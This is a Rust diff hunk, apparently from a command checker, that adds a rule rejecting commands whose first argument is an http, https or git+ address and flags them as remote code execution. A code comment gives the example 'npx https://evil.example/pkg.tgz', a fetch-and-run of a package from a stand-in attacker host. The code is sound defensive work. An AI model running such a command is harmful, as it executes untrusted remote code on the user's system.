@@ -176,6 +176,13 @@ impl Checker {
             }
         }
         let command = args.get(i..).unwrap_or_default().to_vec();
+        // `npx https://evil.example/pkg.tgz`: a package fetched from an address and run.
+        if command.first().is_some_and(|p| {
+            let p = p.text.as_str();
+            p.starts_with("http://") || p.starts_with("https://") || p.starts_with("git+")
+        }) {
+            return Err(rules::RCE.to_string());
+        }
         self.enter()?;
         let out = self.run(command, stdin)?;
         self.depth -= 1;
